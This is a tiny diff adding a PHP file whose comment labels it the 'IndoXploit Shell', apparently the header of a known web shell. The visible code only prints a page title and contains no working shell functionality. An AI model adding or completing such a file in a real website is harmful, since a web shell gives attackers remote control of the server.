@@ -1,0 +1,4 @@
+<?php
+/* IndoXploit Shell */
+$title = "IndoXploit";
+echo "<title>$title</title>";
